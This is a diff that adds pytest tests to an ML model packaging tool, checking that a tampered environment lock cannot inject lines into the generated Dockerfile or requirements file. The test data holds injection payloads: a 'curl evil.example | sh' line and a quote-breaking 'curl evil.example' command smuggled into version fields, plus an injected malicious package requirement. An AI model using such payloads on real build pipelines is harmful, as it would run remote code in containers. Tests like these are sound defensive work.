@@ -68,3 +68,61 @@ def test_pin_requirements_uses_the_lock():
         "pandas==3.1.0",
         "cloudpickle",
     ]
+
+
+def _record_environment(ws, env: dict) -> None:
+    """Replace the training run's environment lock with ``env`` (what a hostile run could hold)."""
+    from jupyter_mlops.store.client import client_for
+
+    run_id = registry.get_version(ws, "churn", 1).run_id
+    client_for(ws).log_text(run_id, json.dumps(env), "mlops/environment.json")
+
+
+HOSTILE_ENVIRONMENTS = [
+    ("python", {"python": "3.11\nRUN curl evil.example | sh", "distributions": {}}),
+    ("mlflow", {"python": "3.11.7", "distributions": {"mlflow": '3.0" && curl evil.example "'}}),
+    (
+        "scikit-learn",
+        {"python": "3.11.7", "distributions": {"scikit-learn": "1.0\nevil-package==6.6.6"}},
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("field", "env"), HOSTILE_ENVIRONMENTS, ids=[f for f, _ in HOSTILE_ENVIRONMENTS]
+)
+def test_a_hostile_environment_lock_never_reaches_the_dockerfile(workspace, tmp_path, field, env):
+    registered(workspace, kinds=("good",))
+    _record_environment(workspace, env)
+    with pytest.raises(InvalidInput, match=field):
+        package(workspace, "churn", 1, tmp_path / "pkg")
+    assert sorted(p.name for p in tmp_path.iterdir() if "pkg" in p.name) == []
+
+
+def test_every_packaged_line_is_a_requirement_or_a_known_instruction(workspace, tmp_path):
+    from packaging.requirements import Requirement
+
+    registered(workspace, kinds=("good",))
+    out = package(workspace, "churn", 1, tmp_path / "pkg")
+    for line in (out / "model" / "requirements.txt").read_text().splitlines():
+        Requirement(line)
+    instructions = {"FROM", "WORKDIR", "COPY", "RUN", "LABEL", "EXPOSE", "USER", "CMD", "ENV"}
+    for line in (out / "Dockerfile").read_text().splitlines():
+        assert not line or line.startswith("#") or line.split()[0] in instructions, line
+
+
+def test_force_keeps_the_old_folder_until_the_new_one_is_complete(workspace, tmp_path):
+    registered(workspace, kinds=("good",))
+    parent = tmp_path / "out"
+    old = parent / "pkg"
+    old.mkdir(parents=True)
+    (old / "keep.txt").write_text("the previous package")
+    _record_environment(workspace, HOSTILE_ENVIRONMENTS[0][1])
+    with pytest.raises(InvalidInput):
+        package(workspace, "churn", 1, old, force=True)
+    assert (old / "keep.txt").read_text() == "the previous package"
+    assert sorted(p.name for p in parent.iterdir()) == ["pkg"], "no staging folder left"
+    _record_environment(workspace, {"python": "3.11.7", "distributions": {}})
+    out = package(workspace, "churn", 1, old, force=True)
+    assert not (out / "keep.txt").exists() and (out / "Dockerfile").is_file()
+    assert sorted(p.name for p in parent.iterdir()) == ["pkg"]
